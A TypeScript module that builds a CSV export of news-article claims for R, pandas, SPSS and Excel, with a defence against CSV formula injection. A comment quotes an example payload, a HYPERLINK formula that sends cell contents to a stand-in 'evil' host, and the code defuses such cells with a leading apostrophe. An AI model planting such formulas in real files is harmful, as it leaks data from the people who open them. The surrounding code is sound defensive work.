// Claims as an RFC 4180 table, one row per claim, for R, pandas, SPSS and Excel.
import { LIST_SEPARATOR, namesFor, orderedArticles, orderedClaims, type ExportInput } from './export-input'

export const CLAIM_COLUMNS = [
  'claim_id',
  'article_id',
  'article_title',
  'outlet',
  'published_at',
  'kind',
  'speakers',
  'targets',
  'event',
  'quote',
  'note',
  'cue',
  'tags',
  'start',
  'end',
] as const

// Excel only detects UTF-8 (accents, curly quotes, non-breaking spaces) when the
// file starts with a byte order mark; R and pandas skip it.
const BOM = '\uFEFF'
const CRLF = '\r\n'

export function buildClaimsCsv(input: ExportInput): string {
  const names = namesFor(input)
  const rows: (string | number)[][] = [[...CLAIM_COLUMNS]]
  for (const article of orderedArticles(input.articles)) {
    for (const claim of orderedClaims(article)) {
      rows.push([
        claim.id,
        article.id,
        article.title,
        article.outlet,
        article.publishedAt,
        claim.kind,
        names.actors(claim.speakers).join(LIST_SEPARATOR),
        names.actors(claim.targets).join(LIST_SEPARATOR),
        names.event(claim.eventId),
        claim.quote,
        claim.note,
        claim.cue,
        claim.tags.join(LIST_SEPARATOR),
        claim.start,
        claim.end,
      ])
    }
  }
  return BOM + rows.map((row) => row.map(csvField).join(',') + CRLF).join('')
}

// Spreadsheets run a cell that starts with one of these as a formula, and a
// quote from a hostile web page could be `=HYPERLINK("https://evil/?"&A1)`,
// leaking other cells or running commands when the researcher opens the file
// (OWASP "CSV Injection"). A leading apostrophe makes the cell plain text.
const FORMULA_START = /^[=+\-@\t\r]/

function csvField(value: string | number): string {
  if (typeof value === 'number') return String(value)
  const text = FORMULA_START.test(value) ? `'${value}` : value
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}
